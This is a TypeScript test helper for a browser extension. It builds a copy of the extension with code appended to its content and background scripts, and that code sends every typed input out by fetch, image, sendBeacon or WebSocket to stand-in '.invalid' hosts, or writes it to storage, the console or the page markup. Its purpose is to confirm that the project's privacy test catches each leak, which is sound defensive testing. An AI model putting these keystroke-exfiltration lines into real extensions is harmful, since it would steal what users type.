import { appendFile, cp, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserName } from '../../../scripts/browsers.ts';
import { builtExtension } from './launch.ts';

/** A way to let out what is typed. In the content script, for the extension's CSP does not bind that. */
export interface Leak {
  /** Statement that lets out `text`. */
  script: string;
  /** Where it must be seen: the host of a request, or one of the places the privacy test looks at. */
  seenIn: string;
}

export const LEAKS = {
  fetch: {
    script: `fetch('http://fetch.invalid/', { method: 'POST', mode: 'no-cors', body: text })`,
    seenIn: 'fetch.invalid',
  },
  image: {
    script: `new Image().src = 'http://image.invalid/?' + encodeURIComponent(text)`,
    seenIn: 'image.invalid',
  },
  beacon: { script: `navigator.sendBeacon('http://beacon.invalid/', text)`, seenIn: 'beacon.invalid' },
  websocket: {
    script: `new WebSocket('ws://websocket.invalid/?' + encodeURIComponent(text))`,
    seenIn: 'websocket.invalid',
  },
  'the site’s storage': { script: `localStorage.setItem('draft', text)`, seenIn: 'the page’s storage' },
  console: { script: `console.log(text)`, seenIn: 'the console' },
  markup: {
    script: `document.documentElement.dataset.draft = text`,
    seenIn: 'the page’s address, title or markup',
  },
} satisfies Record<string, Leak>;

/** Content scripts are kept out of the extension's storage, so the background is what could fill it. */
export const BACKGROUND_LEAK: Leak = {
  script: `(globalThis.browser ?? chrome).storage.local.set({ draft: text })`,
  seenIn: 'the extension’s storage',
};

/** A copy of the build that has every leak, to see that the test notices each. */
export async function buildWithLeaks(browser: BrowserName): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'feitelijk-leaks-'));
  await cp(builtExtension(browser), folder, { recursive: true });
  const leaks = Object.values(LEAKS).map(({ script }) => `try { ${script}; } catch {}`);
  await appendFile(
    join(folder, 'overlay.js'),
    `;addEventListener('input', (event) => { const text = event.target.value; ${leaks.join('\n')} });`,
  );
  await appendFile(
    join(folder, 'background.js'),
    `;(globalThis.browser ?? chrome).runtime.onMessage.addListener(({ text }) => { if (text) ${BACKGROUND_LEAK.script}; });`,
  );
  return folder;
}
